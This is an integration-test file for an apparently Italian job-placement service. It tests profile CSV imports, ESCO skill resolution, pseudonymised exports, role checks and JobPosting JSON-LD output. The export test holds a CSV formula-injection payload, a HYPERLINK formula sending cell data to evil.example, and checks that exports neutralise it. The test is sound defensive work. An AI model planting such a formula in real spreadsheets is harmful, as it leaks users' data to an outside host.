import { count, eq } from 'drizzle-orm';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { outbox, profiles } from '../../src/db/schema.js';
import { openTable } from '../../src/files/index.js';
import { createTestApp, type Caller, type TestApp } from '../helpers/app.js';
import { ESCO, makeDesk, makeFirm, PLACES } from '../helpers/factories.js';
import { profilesCsv } from '../fixtures/import/profiles-csv.js';
import { fixture, importFile, upload, type JobView } from './helpers.js';

let t: TestApp;
let deskId: string;
let operator: Caller;

beforeAll(async () => {
  t = await createTestApp();
  deskId = (await makeDesk(t.database.handle.db)).id;
  operator = { role: 'operator', deskId };
});
afterAll(() => t?.close());

const db = () => t.database.handle.db;
const state = async () => ({
  profiles: (
    await db()
      .select({ ref: profiles.externalRef, v: profiles.version, updated: profiles.updatedAt })
      .from(profiles)
      .where(eq(profiles.deskId, deskId))
  ).sort((a, b) => a.ref.localeCompare(b.ref)),
  outbox: (await db().select({ n: count() }).from(outbox))[0]!.n,
});

describe('journey 5: a desk uploads its spreadsheet of 3,000 profiles', () => {
  const { text, badRows } = profilesCsv(3000, { badEvery: 10 });
  const file = { name: 'lavoratori.csv', bytes: Buffer.from(text, 'latin1') };

  it('dry run lists the rows with errors, each with column, value and reason, and writes nothing', async () => {
    const job = await importFile(t, operator, { entity: 'profiles' }, file);
    expect(job).toMatchObject({ status: 'done', dryRun: true, totalRows: 3000, progress: 1 });
    expect(job.counts).toMatchObject({ create: 2700, update: 0, unchanged: 0, error: 300 });
    const errors = job.report.items.filter((i) => i.severity === 'error');
    expect(new Set(errors.map((e) => e.row)).size).toBeGreaterThan(0);
    const reported = new Set<unknown>();
    for (let offset = 0; offset < job.report.total; offset += 500) {
      const page = await t.call(operator, {
        method: 'GET',
        url: `/api/v1/imports/${job.id}?limit=500&offset=${offset}`,
      });
      for (const i of (page.json() as JobView).report.items) if (i.severity === 'error') reported.add(i.row);
    }
    expect([...reported].sort((a, b) => Number(a) - Number(b))).toEqual(badRows);
    const unknownPlace = errors.find((e) => e.code === 'MUNICIPALITY_UNKNOWN')!;
    expect(unknownPlace).toMatchObject({ value: 'Atlantide', column: { letter: 'F', header: 'Comune' } });
    expect((unknownPlace.message as Record<string, string>).fr).toContain('Commune');
    expect((await state()).profiles).toHaveLength(0);
  });

  it('runs with progress visible while it works, then a second upload changes nothing', async () => {
    const res = await upload(t, operator, { entity: 'profiles', dryRun: 'false' }, file);
    expect(res.statusCode).toBe(202);
    const id = (res.json() as JobView).id;
    const seen: number[] = [];
    // Read as the import screen reads it, while it runs; `waitForJob` checks the end state the same way.
    let job = (await t.call(operator, { method: 'GET', url: `/api/v1/imports/${id}` })).json() as JobView;
    for (let polls = 0; job.status !== 'done' && job.status !== 'failed'; polls++) {
      seen.push(job.progress);
      if (polls > 6_000)
        throw new Error(`import ${id} still ${job.status} at ${job.progress} after 6,000 reads`);
      await new Promise((r) => setTimeout(r, 20));
      job = (await t.call(operator, { method: 'GET', url: `/api/v1/imports/${id}` })).json() as JobView;
    }
    expect(job.counts).toMatchObject({ create: 2700, error: 300 });
    expect(seen.some((p) => p > 0 && p < 1)).toBe(true);
    const first = await state();
    expect(first.profiles).toHaveLength(2700);
    expect(first.profiles.every((p) => p.v === 1)).toBe(true);

    const same = await upload(t, operator, { entity: 'profiles', dryRun: 'false' }, file);
    expect(same.statusCode).toBe(200);
    expect((same.json() as JobView).id).toBe(id);
    // Even as a new job (the bytes differ by a trailing line), every row is unchanged.
    const again = await importFile(
      t,
      operator,
      { entity: 'profiles', dryRun: 'false' },
      {
        name: 'lavoratori (2).csv',
        bytes: Buffer.concat([file.bytes, Buffer.from('\r\n')]),
      },
    );
    expect(again.counts).toMatchObject({ create: 0, update: 0, unchanged: 2700, error: 300 });
    expect(await state()).toEqual(first);
  }, 300_000);

  it('resolves ESCO by label in any language, code or URI, and turns free text into suggestions', async () => {
    const [p] = await db().select().from(profiles).where(eq(profiles.externalRef, 'W-000002'));
    expect(p).toBeDefined();
    const csv = [
      'Codice esterno;Nome;Cognome;Comune;Professioni (ESCO);Competenze (ESCO);Condizione occupazionale',
      'S-1;Ada;Neri;La Spezia;soudeur;saldatura a filo tig;Disoccupato',
      `S-2;Bea;Blu;19121;7212.3;${ESCO.weldingTechniques};Disoccupato`,
    ].join('\r\n');
    const job = await importFile(
      t,
      operator,
      { entity: 'profiles', dryRun: 'false' },
      {
        name: 's.csv',
        bytes: Buffer.from(csv, 'utf8'),
      },
    );
    expect(job.counts).toMatchObject({ create: 2, error: 0, warnings: 1 });
    const warning = job.report.items.find((i) => i.code === 'ESCO_SUGGESTION')!;
    expect(warning).toMatchObject({ severity: 'warning', field: 'skills', value: 'saldatura a filo tig' });
    const suggestions = warning.suggestions as { uri: string; confidence: number }[] | undefined;
    for (const s of suggestions ?? []) expect(s.confidence).toBeGreaterThan(0);
  });
});

describe('export', () => {
  it('round-trips formula payloads: neutralised in the file, the original text when read back', async () => {
    const job = await importFile(
      t,
      operator,
      {
        entity: 'assets',
        dryRun: 'false',
        defaults: JSON.stringify({ availability: 'sale', category: 'other' }),
      },
      { name: 'formula-payloads.csv', bytes: fixture('formula-payloads.csv') },
    );
    expect(job.counts, JSON.stringify(job.report.items)).toMatchObject({ create: 5, error: 0 });
    await t.relay.drain();
    const titles = ['=HYPERLINK("http://evil.example/?x="&A1;"clic")', '+SUM(1;2)', '@SUM(A1:A2)'];
    for (const format of ['csv', 'xlsx'] as const) {
      const res = await t.call(operator, {
        method: 'GET',
        url: `/api/v1/export/assets?format=${format}&lang=fr&q=`,
      });
      expect(res.statusCode, res.body.slice(0, 300)).toBe(200);
      expect(res.headers['content-disposition']).toMatch(
        new RegExp(`^attachment; filename="rilancio-assets-\\d{4}-\\d{2}-\\d{2}\\.${format}"$`),
      );
      expect(res.headers['x-content-type-options']).toBe('nosniff');
      if (format === 'csv') {
        expect(res.body).toContain('Titre;Type');
        for (const line of res.body.split('\r\n').slice(1)) expect(line).not.toMatch(/^[=+\-@\t\r]/);
        expect(res.body).toContain("'@SUM(A1:A2)");
      }
      const table = openTable(res.rawPayload, `export.${format}`);
      const read = [...table.rows].map((r) => String(r.cells[0]).replace(/^'(?=[=+\-@\t\r'])/, ''));
      for (const title of titles) expect(read).toContain(title);
    }
  });

  it('exports profiles to staff only, pseudonymised', async () => {
    await t.relay.drain();
    const res = await t.call(operator, { method: 'GET', url: '/api/v1/export/profiles?format=csv&lang=it' });
    expect(res.statusCode).toBe(200);
    expect(res.body).toContain('Codice pseudonimo');
    expect(res.body).not.toContain('Cognome1');
    expect(res.body).not.toContain('@example.org');
    expect(res.body).toMatch(/\nP-[0-9A-Z]{8};/);
    expect(
      (await t.call({ role: 'marketing' }, { method: 'GET', url: '/api/v1/export/profiles' })).statusCode,
    ).toBe(403);
  });
});

describe('JobPosting JSON-LD', () => {
  it('publishes a job need with ESCO and ISCO codes, and only to its own company', async () => {
    const firm = await makeFirm(db(), { vatNumber: '01234567897' });
    const created = await t.call(operator, {
      method: 'POST',
      url: '/api/v1/needs',
      payload: {
        type: 'job',
        firmId: firm.id,
        title: '2 saldatori TIG',
        municipality: PLACES.laSpezia,
        occupationUri: ESCO.welder,
        essentialSkills: [ESCO.weldingTechniques],
        positions: 2,
        contractType: 'permanent',
        expiresAt: '2027-06-30',
      },
    });
    expect(created.statusCode, created.body).toBe(201);
    const id = created.json().id as string;
    const res = await t.call(
      { role: 'company', firmId: firm.id },
      { method: 'GET', url: `/api/v1/needs/${id}/jobposting?lang=fr` },
    );
    expect(res.statusCode).toBe(200);
    expect(res.headers['content-type']).toContain('application/ld+json');
    const doc = res.json();
    expect(doc).toMatchObject({
      '@context': 'https://schema.org',
      '@type': 'JobPosting',
      title: '2 saldatori TIG',
      validThrough: '2027-06-30',
      employmentType: 'FULL_TIME',
      totalJobOpenings: 2,
      hiringOrganization: { '@type': 'Organization', name: firm.name },
      jobLocation: {
        address: { addressLocality: 'La Spezia', addressCountry: 'IT' },
        geo: { '@type': 'GeoCoordinates' },
      },
    });
    expect(doc.occupationalCategory[0]).toMatchObject({ '@id': ESCO.welder, codeValue: '7212.3' });
    expect(doc.occupationalCategory[1]).toMatchObject({ codeValue: '7212', inCodeSet: { name: 'ISCO-08' } });
    expect(doc.skills).toEqual(['techniques de soudage']);
    const other = await makeFirm(db());
    const hidden = await t.call(
      { role: 'company', firmId: other.id },
      { method: 'GET', url: `/api/v1/needs/${id}/jobposting` },
    );
    expect(hidden.statusCode).toBe(404);
  });
});
